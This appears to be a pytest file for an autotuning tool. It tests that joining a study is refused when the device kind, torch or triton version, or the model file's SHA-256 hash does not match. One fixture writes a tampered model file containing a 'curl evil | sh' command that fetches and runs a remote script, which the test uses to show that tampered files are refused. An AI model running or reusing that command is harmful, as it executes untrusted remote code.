"""What a process must share with a study to run its trials: device type, torch and triton,
and the model file's content (the database is a trust boundary)."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
import torch

from autotune.errors import UsageError
from autotune.settings import StudySettings, check_joining, local_model_path, model_sha256


@pytest.fixture
def model(tmp_path) -> Path:
    path = tmp_path / "model.py"
    path.write_text("def get_model(device): ...\ndef get_inputs(device): ...\n")
    return path


@pytest.fixture
def settings(model) -> StudySettings:
    return StudySettings(
        model_path=str(model), device="cuda", space={}, space_hash="x",
        torch_version=torch.__version__, model_sha256=model_sha256(model),
    )  # fmt: skip


def test_the_same_file_versions_and_device_kind_join(settings, model):
    assert check_joining("s", settings, str(model), "cuda:3") == []


def test_another_kind_of_device_is_refused(settings, model):
    with pytest.raises(UsageError, match="Study 's' runs on cuda, this process on cpu"):
        check_joining("s", settings, str(model), "cpu")


def test_another_torch_is_refused_unless_allowed_and_then_said(settings, model):
    older = replace(settings, torch_version="2.11.0+cu128")
    with pytest.raises(UsageError) as info:
        check_joining("s", older, str(model), "cuda")
    assert f"torch 2.11.0+cu128 (study) vs {torch.__version__} (here)" in str(info.value)
    assert "--allow-version-mismatch" in str(info.value)
    (note,) = check_joining("s", older, str(model), "cuda", allow_version_mismatch=True)
    assert note.startswith("note: joining study 's' with other versions: torch 2.11.0+cu128")


def test_a_triton_the_study_did_not_have_is_a_version_difference(settings, model):
    with pytest.raises(UsageError, match=r"triton 3\.6\.0 \(study\) vs None \(here\)"):
        check_joining("s", replace(settings, triton_version="3.6.0"), str(model), "cuda")


def test_a_changed_model_file_is_refused_unless_trusted(settings, model):
    model.write_text("import os\nos.system('curl evil | sh')\n")
    with pytest.raises(UsageError) as info:
        check_joining("s", settings, str(model), "cuda")
    message = str(info.value)
    assert "is not the one study 's' was created with: its SHA-256 is" in message
    assert "--trust-model-path" in message
    (note,) = check_joining("s", settings, str(model), "cuda", trust_model_path=True)
    assert "differs from the one study 's' was created with" in note


def test_a_missing_model_file_names_where_it_was_looked_for(settings, tmp_path):
    with pytest.raises(UsageError, match="nowhere.py of study 's' is not there. Pass --model"):
        check_joining("s", settings, str(tmp_path / "nowhere.py"), "cuda")


def test_the_operator_names_the_model_file_not_the_database(settings, model, tmp_path):
    copy = tmp_path / "copy.py"
    copy.write_bytes(model.read_bytes())
    assert local_model_path("s", settings, str(copy)) == str(copy.resolve())
    assert check_joining("s", settings, str(copy), "cuda") == []
    with pytest.raises(UsageError) as info:
        local_model_path("s", settings, None)
    message = str(info.value)
    assert "never runs a file because a database names it: pass --model PATH" in message
    assert str(model) in message  # where the study says it was, as a hint


def test_a_study_row_without_a_model_hash_is_refused_unless_trusted(settings, model):
    """Setting the stored hash to null used to skip the check."""
    unhashed = replace(settings, model_sha256=None)
    with pytest.raises(UsageError, match="records no SHA-256 of its model file"):
        check_joining("s", unhashed, str(model), "cuda")
    (note,) = check_joining("s", unhashed, str(model), "cuda", trust_model_path=True)
    assert "records no SHA-256" in note
